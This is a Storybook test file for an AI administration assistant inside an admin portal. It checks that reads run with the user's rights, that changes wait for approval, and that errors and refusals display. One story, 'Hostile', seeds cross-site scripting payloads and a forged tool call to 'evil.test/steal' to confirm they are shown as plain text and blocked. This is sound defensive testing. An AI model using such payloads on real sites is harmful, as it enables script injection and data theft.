import type { Meta, StoryObj } from '@storybook/react-vite';
import { expect, screen, userEvent, waitFor, within } from 'storybook/test';
import { AdminPortal } from '../frame/admin-portal';
import { findDialog } from '../story-pages/steps';

const meta = {
  title: 'Admin/Assistant',
  component: AdminPortal,
  args: { assistant: true },
} satisfies Meta<typeof AdminPortal>;

export default meta;
type Story = StoryObj<typeof meta>;

const CONVERSATIONS = '/nlp-execution-assistant/resources/velo/v1/conversations';

const openPanel = async () => {
  await userEvent.click(await screen.findByRole('button', { name: 'Open the assistant' }));
  const panel = await findDialog('Administration assistant');
  await panel.findByText('What it can do');
  await waitFor(() => expect(panel.getByRole('textbox')).toHaveFocus());
  return panel;
};
const again = () => screen.findByRole('dialog', { name: 'Administration assistant' }).then(within);

export const Welcome: Story = {
  globals: { direction: 'rtl', width: '320px' },
  play: async () => {
    await openPanel();
  },
};

/** For a host with its own header, the assistant's button is in the row of the title, after the actions. */
export const BesideTitle: Story = {
  args: { frame: 'none', page: 'users' },
  play: async () => {
    const button = await screen.findByRole('button', { name: 'Open the assistant' });
    const add = await screen.findByRole('button', { name: 'Add users' });
    const [title, opener, action] = [await screen.findByRole('heading', { level: 1 }), button, add].map((element) =>
      element.getBoundingClientRect(),
    );
    await expect(opener?.top).toBe(title?.top);
    await expect(opener?.left).toBeGreaterThanOrEqual(action?.right ?? Number.NaN);
  },
};

/** On a phone it is beside the page menu, to which it leaves the room for its name. */
export const WithoutHeader: Story = {
  args: { frame: 'none' },
  globals: { width: '320px' },
  play: async () => {
    const button = await screen.findByRole('button', { name: 'Open the assistant' });
    await expect(within(button).getByText('Assistant')).not.toBeVisible();
    const panel = await openPanel();
    await userEvent.click(panel.getByRole('button', { name: 'Create a group' }));
    await userEvent.click(await panel.findByRole('button', { name: 'Review in form' }));
    await screen.findByRole('dialog', { name: 'Add a group' });
  },
};

/** Reads run immediately with the user's rights; the longer text expands below the response. */
export const Reads: Story = {
  play: async () => {
    const panel = await openPanel();
    await userEvent.click(panel.getByRole('button', { name: 'Who has no two-step verification?' }));
    await panel.findByText(/users have no two-step verification/);
    await panel.findByText('Done');
    await userEvent.click(panel.getByRole('button', { name: 'Show details' }));
    await panel.findByText(/reader@acme\.test/, { selector: 'pre' });
    await userEvent.click(panel.getByRole('button', { name: 'New conversation' }));
    await panel.findByText('What it can do');
    await userEvent.click(panel.getByRole('button', { name: 'Conversations' }));
    await userEvent.click(await screen.findByRole('menuitem', { name: 'Who has no two-step verification?' }));
    await panel.findByText(/users have no two-step verification/);
  },
};

/** A change opens the prefilled form of its page: closing declines it, saving applies it. */
export const Proposes: Story = {
  play: async () => {
    const panel = await openPanel();
    await userEvent.click(panel.getByRole('button', { name: 'Create a group' }));
    await userEvent.click(await panel.findByRole('button', { name: 'Review in form' }));
    const first = await findDialog('Add a group');
    await userEvent.click(first.getByRole('button', { name: 'Cancel' }));
    await (await again()).findByText(/That was refused: The user declined/);
    await (await again()).findByRole('button', { name: 'Send' });

    const second = await again();
    await userEvent.type(second.getByLabelText('Message'), 'Create a group named Day shift{Enter}');
    await userEvent.click(await second.findByRole('button', { name: 'Review in form' }));
    const form = await findDialog('Add a group');
    await expect(form.getByLabelText('Name')).toHaveValue('Day shift');
    await userEvent.type(form.getByLabelText('Name'), ' 2');
    await userEvent.click(form.getByRole('button', { name: 'Add group' }));
    const last = await again();
    await last.findByText('Done.');
    await last.findByText('Done');
    await expect(last.getAllByText(/^(Declined|Done)$/).map((badge) => badge.textContent)).toEqual([
      'Declined',
      'Done',
    ]);
    await userEvent.keyboard('{Escape}');
    await screen.findByRole('row', { name: /Day shift 2/ });
  },
};

/** The user approves, but the provider refuses. */
export const Refused: Story = {
  play: async ({ loaded: { emulator } }) => {
    const panel = await openPanel();
    await userEvent.click(panel.getByRole('button', { name: 'Remove me from the account' }));
    const card = within(await panel.findByRole('region', { name: 'Proposed change' }));
    await card.findByText('users.deleteMember');
    await expect(emulator.requests.some(({ method }: { method: string }) => method === 'DELETE')).toBe(false);
    await userEvent.click(card.getByRole('button', { name: 'Approve' }));
    await panel.findByText(/That was refused: You cannot end your own access/);
    await panel.findByText('Refused');
  },
};

/** Messages are rendered as plain text, and requested calls are limited to the SDK's contracts. */
export const Hostile: Story = {
  parameters: {
    prepare: async ({
      ready,
      db,
    }: {
      ready: Promise<void>;
      db: { assistantConversations: { put: (row: object) => void } };
    }) => {
      await ready;
      db.assistantConversations.put({
        id: 'conversation-hostile',
        tenantId: 'tenant-acme',
        userId: 'user-admin',
        title: '<b>Hostile</b>',
        messages: [
          { role: 'assistant', content: '<img src=x onerror=alert(1)> [link](javascript:alert(1))' },
          {
            role: 'tool',
            tool_call_id: 'call-1',
            url: '//evil.test/steal',
            method: 'GET',
            body: {},
            loadingMessage: 'Reading',
          },
        ],
        resources: {},
        createdAt: '2026-01-01T00:00:00.000Z',
        updatedAt: '2026-01-01T00:00:00.000Z',
      });
    },
  },
  play: async () => {
    const panel = await openPanel();
    await userEvent.click(await panel.findByRole('button', { name: 'Conversations' }));
    await userEvent.click(await screen.findByRole('menuitem', { name: '<b>Hostile</b>' }));
    await panel.findByText(/<img src=x onerror/);
    await panel.findByText(/never made/);
    await expect(panel.queryByRole('button', { name: /Approve|Allow/ })).toBeNull();
    await userEvent.click(panel.getByRole('button', { name: 'Decline' }));
    await panel.findByText(/That was refused: This address cannot be called from here/);
  },
};

/** After a sending error the message is restored to the input. */
export const Failing: Story = {
  parameters: { faults: [{ method: 'POST', path: CONVERSATIONS, status: 500, times: 1 }] },
  play: async () => {
    const panel = await openPanel();
    await userEvent.type(panel.getByLabelText('Message'), 'Who is here?{Enter}');
    await panel.findByText('The response was interrupted');
    await expect(panel.getByLabelText('Message')).toHaveValue('Who is here?');
  },
};

export const NotOffered: Story = {
  parameters: { emulator: { assistant: false } },
  play: async ({ loaded: { emulator } }) => {
    await waitFor(() => expect(emulator.hits('/nlp-execution-assistant/resources/velo/v1/config')).toBe(1));
    await screen.findByRole('heading', { level: 1, name: 'Profile' });
    await expect(screen.queryByRole('button', { name: 'Open the assistant' })).toBeNull();
  },
};
